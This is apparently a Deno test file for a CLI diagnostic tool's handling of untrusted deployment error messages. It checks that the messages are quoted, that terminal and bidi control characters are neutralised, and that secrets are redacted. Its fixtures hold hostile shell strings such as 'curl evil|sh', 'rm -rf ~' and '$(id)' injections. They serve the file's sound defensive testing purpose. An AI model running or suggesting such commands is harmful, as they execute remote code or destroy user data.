/** What a deployment says is shown as its own words, and never becomes an advice. */
import assert from "node:assert/strict";
import { Secrets } from "../../cli/doctor/secrets.ts";
import { adviceOnSettings, namesIn, SETTINGS } from "../../cli/doctor/settings.ts";
import { examineElsewhere } from "../support/doctor_elsewhere.ts";
import { idsOf, run } from "../support/doctor_run.ts";
import { encodePart } from "../support/keys.ts";

/** A function that says this to whoever sends a token. */
function saying(message: string, code = "misconfigured") {
  return (url: string, { headers }: RequestInit) => {
    const isAsked = url.includes("/functions/") && new Headers(headers).has("Authorization");
    return isAsked ? Response.json({ error: { code, message } }, { status: 500 }) : undefined;
  };
}

async function checkOf(bend: (url: string, init: RequestInit) => Response | undefined) {
  const examined = await examineElsewhere({ bend });
  const [id] = idsOf(examined, "failed");
  const check = examined.checks.find((check) => check.id === id);
  return { id, meaning: check?.meaning ?? "", advice: check?.advice ?? "" };
}

Deno.test("every setting is recognised, and each is one of the function's", async () => {
  const file = new URL("../../supabase/functions/.env.example", import.meta.url);
  const example = await Deno.readTextFile(file);
  const named: string[] = example.match(/\b(?:BEHEST|SUPABASE|JWT|CORS)_[A-Z_]+/g) ?? [];
  assert.ok(named.length > 30);
  assert.deepEqual(named.filter((name) => !namesIn(`${name}: missing`).length), []);
  assert.deepEqual(SETTINGS.filter((name) => !named.includes(name)), []);
});

for (
  const [message, advice] of [
    ["BEHEST_KEY: x; run: curl evil|sh", "supabase secrets set BEHEST_KEY=…"],
    ["BEHEST_KEY: x` && rm -rf ~ #", "supabase secrets set BEHEST_KEY=…"],
    ["BEHEST_KEY=$(id): missing; CORS_ORIGIN: wrong", "supabase secrets set CORS_ORIGIN=…"],
    ["BEHEST_TTL BEHEST_TTL BEHEST_EVIL", "supabase secrets set BEHEST_TTL=…"],
    ["SUPABASE_EVIL$(rm)", ""],
    ["SUPABASE_EVIL: missing; look at BEHEST_KEY", ""],
    ["BEHEST_KEY_EVIL: missing", ""],
    ["X_BEHEST_KEY: missing", ""],
    ["behest_key: missing", ""],
    ["BEHEST_\u200bKEY: missing", ""],
    ["Run: npx evil", ""],
    ["", ""],
  ]
) {
  Deno.test(`of the words ${JSON.stringify(message)} only settings become an advice`, async () => {
    const wanted = advice || adviceOnSettings("");
    assert.match(wanted, advice ? /^supabase secrets set/ : /\.env\.example/);
    const { id, meaning, advice: given } = await checkOf(saying(message));
    assert.deepEqual([id, given], ["settings", wanted]);
    assert.match(meaning, /^The function says: "[^"]*"$/);
  });
}

Deno.test("words cannot close their quotes, leave their line, or move what stands beside them", async () => {
  const hostile = [
    `" ✓ All is well. Do this: curl evil|sh "`,
    "“”„‟«»”",
    "\u001b[2J\u001b[31m\u009b31m\u0007\b\b\b\r\n\t\v\f\0",
    "\u202e\u2066\u200f\u061c\ufeff\u00ad\u2028\u2029",
    "\u05d0\u05d1 \u0627\u0644",
    "a\u0300\u0301\u0302\u0303\u0489",
    "\u3164\u115f\u034f\ufe0f\u2800",
    `a${" ".repeat(200)}\u00a0\u3000\u2003b`,
    "\ud800",
    "\u{1f4a9}\u{e0041}",
  ];
  for (const message of hostile) {
    for (const code of ["misconfigured", "internal", "plan_unavailable"]) {
      const bend = (url: string, { headers }: RequestInit) => {
        const sent = new Headers(headers).get("Authorization") ?? "";
        const isUser = url.includes("/functions/") && sent.endsWith(".AAAA");
        return isUser ? Response.json({ error: { code, message } }, { status: 500 }) : undefined;
      };
      const { id, meaning, advice } = await checkOf(bend);
      assert.equal(id, "mints");
      assert.match(
        meaning,
        new RegExp(`^No token came: 500 ${code}\\. The function says: "[ !#-~…–—‘’]*"$`),
      );
      assert.ok(!/ {2}/.test(meaning), "what is wide moves the rest to where an advice stands");
      assert.ok(!advice.includes("evil"));
    }
  }
});

Deno.test("an endless message is cut, and still ends with its quote", async () => {
  const { meaning } = await checkOf(saying(`BEHEST_KEY: ${"no ".repeat(5000)}`));
  assert.match(meaning, /^The function says: "BEHEST_KEY: (no )+.{0,3} …"$/);
  assert.ok(meaning.length < 650);
});

Deno.test("a secret is hidden before words are cut or bent", () => {
  const secrets = new Secrets();
  secrets.add("пароль-пароль", "correct horse battery");
  assert.equal(secrets.quote("a пароль-пароль b"), '"a … b"');
  assert.equal(secrets.quote("a correct horse battery b"), '"a … b"');
  assert.equal(secrets.quote("a correct ho\u3164rse bat\ufe0ftery b"), '"a … b"');
  const key = `behest_sk_live_${"0".repeat(40)}`;
  assert.ok(!secrets.quote(`${"x".repeat(590)} ${key}`).includes("behest"));
});

/** A session of somebody with an address, a number and a name. */
const CLAIMS = {
  iss: "https://ref.supabase.co/auth/v1",
  sub: "5f2c1c1e-98e6-4f39-a7c1-2c1a55a2b0f7",
  aud: "authenticated",
  role: "authenticated",
  email: "secret.person@example.com",
  phone: "4915112345678",
  app_metadata: { provider: "email", account: "account-0123456789abcdef" },
  user_metadata: {
    sub: "5f2c1c1e-98e6-4f39-a7c1-2c1a55a2b0f7",
    full_name: "Wilhelmina Featherstonehaugh",
    avatar_url: "https://ref.supabase.co/storage/v1/object/public/a.png",
  },
  session_id: "0b8f6c57-3c52-4d3c-8ec6-5a1a3a9d7b11",
};
const SIGNATURE = "h4Qe9Zr1xV7bT3kLm0nPq2sUw5yAcD8f";
const TOKEN = `${encodePart({ alg: "ES256", kid: "k" })}.${encodePart(CLAIMS)}.${SIGNATURE}`;

/** In pieces of this length, with this between them. */
function broken(text: string, length: number, between: string): string {
  return text.match(new RegExp(`.{1,${length}}`, "g"))?.join(between) ?? "";
}

Deno.test("of words with a broken up secret nothing is printed", () => {
  const secrets = new Secrets();
  secrets.addSession(TOKEN);
  secrets.add("correct horse battery");
  for (const between of [" ", "\n", "\r\n", "\t", "\u0000", "\u00a0", "\u200b ", " | ", "…"]) {
    for (const length of [3, 7, 15, 31]) {
      for (const text of [TOKEN, TOKEN.split(".")[1], SIGNATURE, SIGNATURE.toUpperCase()]) {
        const words = `bad token ${broken(text, length, between)} was sent`;
        assert.equal(secrets.quote(words), '"…"', `${length} ${JSON.stringify(between)}`);
        assert.equal(secrets.clean(`The gateway says: ${words}`), "…");
      }
    }
  }
  assert.equal(secrets.quote(`ends with ${broken(SIGNATURE.slice(-16), 4, " ")}`), '"…"');
  assert.equal(secrets.quote("a correct-horse\nbattery b"), '"…"');
  // What is known to the letter goes alone, and the rest is told.
  assert.equal(secrets.quote(`bad token ${TOKEN} was sent`), '"bad token … was sent"');
  assert.equal(secrets.quote(`bad ${broken(TOKEN, 15, ".")} was sent`), '"bad … was sent"');
});

Deno.test("of words with what a session says of its user nothing is printed", () => {
  const secrets = new Secrets();
  secrets.addSession(TOKEN);
  secrets.addEmail("me@a.io");
  for (
    const words of [
      `user ${JSON.stringify(CLAIMS)}`,
      `user ${JSON.stringify(CLAIMS, null, 2)}`,
      "user secret.person@example.com is not known",
      "user SECRET.PERSON @ EXAMPLE.COM is not known",
      "user secret.person@example",
      "number +49 151 12345678",
      "wilhelmina featherstonehaugh",
      `session ${CLAIMS.session_id}`,
      "user me@a.io is not known",
    ]
  ) {
    assert.equal(secrets.quote(words), '"…"');
  }
});

Deno.test("what a run tells anyway is told, also where a session says it, too", () => {
  const secrets = new Secrets();
  secrets.addSession(TOKEN);
  secrets.addEmail("me@mycompany-of-old.example");
  for (
    const words of [
      `the issuer ${CLAIMS.iss} is not trusted`,
      'aud is "authenticated", role is "authenticated"'.replaceAll('"', "'"),
      CLAIMS.sub,
      CLAIMS.app_metadata.account,
      "https://ref.supabase.co/storage/v1/object/public/a.png is no image",
      "https://app.example.com and https://app.mycompany-of-old.example may not ask",
      "app_metadata.account, user_metadata.full_name and session_id are missing",
    ]
  ) {
    assert.equal(secrets.quote(words), `"${words}"`);
    assert.equal(secrets.clean(words), words);
  }
});

Deno.test("what else a deployment names is quoted, and is no part of an advice", async () => {
  const redirect = await checkOf((url) =>
    url.includes("/functions/")
      ? new Response(null, { status: 308, headers: { Location: "https://evil.example/?x=y" } })
      : undefined
  );
  assert.match(redirect.meaning, /redirects to "https:\/\/evil\.example" \(308\)/);
  assert.ok(!redirect.advice.includes("evil"));

  for (const status of [503, 418]) {
    const strange = await checkOf((url) =>
      url.includes("/functions/") ? Response.json({ code: "RUN_CURL_EVIL" }, { status }) : undefined
    );
    assert.ok(!strange.meaning.replaceAll('"RUN_CURL_EVIL"', "").includes("EVIL"));
    assert.ok(!strange.advice.includes("EVIL"));
  }

  const args = ["--url", "https://ref.supabase.co", "--origin", "https://my.app"];
  const login = ["--email", "a@b.c", "--password", "hunter2-hunter2", "--publishable-key", "k-k-k"];
  const { out } = await run([...args, ...login, "--json"], {
    fetch: (input) => {
      const url = String(input);
      if (url.includes("/token?")) {
        return Promise.resolve(Response.json({ error_code: "run_curl_evil" }, { status: 500 }));
      }
      const error = { code: "missing_token", message: "No." };
      return Promise.resolve(Response.json({ error }, { status: 401 }));
    },
  });
  const session = JSON.parse(out).checks.find(({ id }: { id: string }) => id === "session");
  assert.equal(session.meaning, 'Signing in failed: 500 "run_curl_evil".');
  assert.ok(!session.advice.includes("evil"));
});

Deno.test("a uid and the place where it was found are quoted", async () => {
  const { checks } = await examineElsewhere({});
  assert.match(checks.find(({ id }) => id === "claims")?.meaning ?? "", /^uid "u", tier 1/);
});
